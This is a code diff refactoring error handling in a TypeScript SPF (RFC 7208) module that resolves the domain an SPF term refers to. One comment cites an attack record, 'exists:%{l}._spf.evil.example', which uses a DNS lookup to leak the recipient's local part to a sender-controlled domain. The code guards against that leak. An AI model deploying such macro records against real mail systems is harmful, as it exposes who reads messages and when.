@@ -1,7 +1,7 @@
 /** The name that a term is about: its domain-spec, expanded, or the domain in hand (RFC 7208 §4.8). */
 
 import { isSevenBit } from '../bytes/ascii.ts';
-import type { SpfContext, SpfError } from './context.ts';
+import { type SpfContext, type SpfError, spfError } from './context.ts';
 import type { MacroString } from './domain-spec.ts';
 import { expandDomain, type MacroValues, usesLetter } from './macro.ts';
 import { validatedNameFor } from './validated-names.ts';
@@ -28,7 +28,7 @@ export async function targetName(
     if (!isSevenBit(context.subject.localPart)) return { name: null };
     // Attack: "exists:%{l}._spf.evil.example" makes the very question tell the sender's DNS who reads the message, and when.
     if (!context.subject.askLocalPart) {
-      return { error: { code: 'spf_temperror_local_part', term, domain, values: {}, warnings: [] } };
+      return { error: spfError('spf_temperror_local_part', term, domain) };
     }
   }
   return { name: expandDomain(spec, await macroValues(context, spec, domain)) };
